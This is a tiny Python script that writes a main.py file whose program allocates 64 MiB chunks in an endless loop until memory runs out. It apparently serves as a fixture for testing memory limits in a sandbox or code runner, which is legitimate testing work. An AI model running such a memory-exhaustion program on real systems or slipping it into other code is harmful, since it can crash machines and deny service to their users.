from pathlib import Path

Path("main.py").write_text("held = []\nwhile True:\n    held.append(b'x' * (64 << 20))\n")
